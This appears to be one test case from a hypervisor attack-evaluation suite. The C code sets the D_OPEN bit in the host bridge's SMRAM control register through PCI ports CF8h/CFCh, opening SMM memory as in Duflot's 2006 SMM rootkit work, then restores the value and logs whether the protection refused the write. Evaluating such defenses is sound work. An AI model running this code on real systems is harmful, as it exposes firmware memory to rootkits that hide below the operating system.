// Row 26. The host bridge's SMRAM control by CF8h/CFCh: SMM's memory opened to everybody.
// Source: SMM rootkits (Duflot 2006).
// Ends: natively succeeded; beneath SecVisor refused, port.
#include "common/attack.h"

// D_OPEN
#define OPEN 0x40

static u64 config(u8 offset)
{
	operate(VULNERABLE_OUT, 0xcf8, 4, 0x80000000u | (offset & 0xfc));
	return operate(VULNERABLE_IN, 0xcfc + (offset & 3), 1, 0);
}

static void set_config(u8 offset, u8 value)
{
	operate(VULNERABLE_OUT, 0xcf8, 4, 0x80000000u | (offset & 0xfc));
	operate(VULNERABLE_OUT, 0xcfc + (offset & 3), 1, value);
}

ATTACK("smram-port")
{
	u64 before = config(0x9d), now;

	if (before & OPEN)
		failed("it is open: %#llx", (unsigned long long)before);
	set_config(0x9d, before | OPEN);
	now = config(0x9d);
	set_config(0x9d, before);
	if (now & OPEN)
		succeeded("SMM's memory was open to everybody: SMRAM control was %#llx", (unsigned long long)now);
	refused("SMRAM control stays %#llx", (unsigned long long)now);
}
